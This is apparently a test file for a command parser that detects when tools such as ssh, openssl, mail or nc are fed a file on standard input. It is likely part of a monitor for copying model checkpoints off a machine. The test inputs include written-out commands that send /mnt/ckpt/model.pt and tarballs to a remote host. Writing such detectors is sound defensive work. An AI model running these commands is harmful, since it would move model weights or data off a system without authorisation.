/**
 * The argv lines and the tools fed a file on standard input (exec-command-lines.ts), through the
 * real canonical reading (exec-canonical.ts) and directly over word lists.
 */
import { describe, expect, it } from 'vitest';
import { canonicalExec } from './exec-canonical.js';
import { argvLines, MAX_LINES, stdinFile, stdinFileTools } from './exec-command-lines.js';

const sh = (line: string): string[] => ['sh', '-c', line];

describe('argvLines', () => {
  it('joins an argv command, tool word as a basename, and makes no line of a script', () => {
    expect(canonicalExec(['/bin/tar', 'czf', '/tmp/m.tgz', '/mnt/ckpt']).argvLines).toEqual(['tar czf /tmp/m.tgz /mnt/ckpt']);
    expect(canonicalExec(['nice', '-n', '19', 'cp', '-r', '/mnt/ckpt', '/tmp']).argvLines).toEqual(['nice -n 19 cp -r /mnt/ckpt /tmp']);
    expect(canonicalExec(sh('tar czf /tmp/m.tgz /mnt/ckpt')).argvLines).toEqual([]);
    expect(canonicalExec(['ls']).argvLines).toEqual([]);
  });

  it('is bounded', () => {
    const cmds = Array.from({ length: MAX_LINES * 2 }, (_, i) => ['cp', String(i)]);
    expect(argvLines(cmds, cmds.map(() => false))).toHaveLength(MAX_LINES);
  });
});

describe('stdinFile', () => {
  it('reads <, 0<, <> and the last redirection; not other descriptors, devices or here-docs', () => {
    expect(stdinFile(['ssh', 'h', 'cat > x', '<', '/mnt/ckpt/model.pt'])).toBe('/mnt/ckpt/model.pt');
    expect(stdinFile(['ssh', 'h', '0', '<', '/tmp/a', '<', '/tmp/b'])).toBe('/tmp/b');
    expect(stdinFile(['<>', '/tmp/a', 'nc', 'h', '1'])).toBe('/tmp/a');
    expect(stdinFile(['ssh', 'h', '3', '<', '/tmp/a'])).toBeNull();
    expect(stdinFile(['ssh', 'h', '<', '/dev/null'])).toBeNull();
    expect(stdinFile(['ssh', 'h', '<&', '3'])).toBeNull();
    expect(stdinFile(['cat', '<<', 'EOF'])).toBeNull();
    expect(stdinFile(['ssh', 'h', '<'])).toBeNull();
    // A `<` that is another redirection's target is no operator.
    expect(stdinFile(['cat', '>', '<', '/tmp/a'])).toBeNull();
  });
});

describe('stdinFileTools', () => {
  it('names the tool past wrappers and redirections, each once, only for scripts', () => {
    expect(canonicalExec(sh("ssh u@h 'cat > m.pt' < /mnt/ckpt/model.pt")).stdinFileTools).toEqual(['ssh']);
    expect(canonicalExec(sh("sudo -u ml nohup ssh u@h 'cat > m' </tmp/m.tgz")).stdinFileTools).toEqual(['ssh']);
    expect(canonicalExec(sh('< /tmp/m.tgz openssl s_client -connect h:443; mail -s x a@h < /tmp/m.tgz; mail -s y a@h < /tmp/n')).stdinFileTools).toEqual(['openssl', 'mail']);
    expect(canonicalExec(sh('ssh h uptime < /dev/null')).stdinFileTools).toEqual([]);
    // Without a shell `<` is a word the tool is given.
    expect(canonicalExec(['ssh', 'h', 'cat', '<', '/mnt/ckpt/model.pt']).stdinFileTools).toEqual([]);
  });

  it('never throws on random word lists and stays bounded', () => {
    const pool = ['<', '<>', '0', '3', '<&', 'ssh', 'sudo', '-u', 'x', 'timeout', '5', '', '/dev/null', '/tmp/a', 'A=1', '{', 'env'];
    let seed = 7;
    const next = (): number => (seed = (seed * 1103515245 + 12345) & 0x7fffffff);
    for (let n = 0; n < 2000; n++) {
      const cmds = Array.from({ length: 1 + (next() % 4) }, () => Array.from({ length: next() % 9 }, () => pool[next() % pool.length]!));
      const tools = stdinFileTools(cmds, cmds.map(() => true));
      expect(tools.length).toBeLessThanOrEqual(MAX_LINES);
      expect(new Set(tools).size).toBe(tools.length);
    }
  });
});
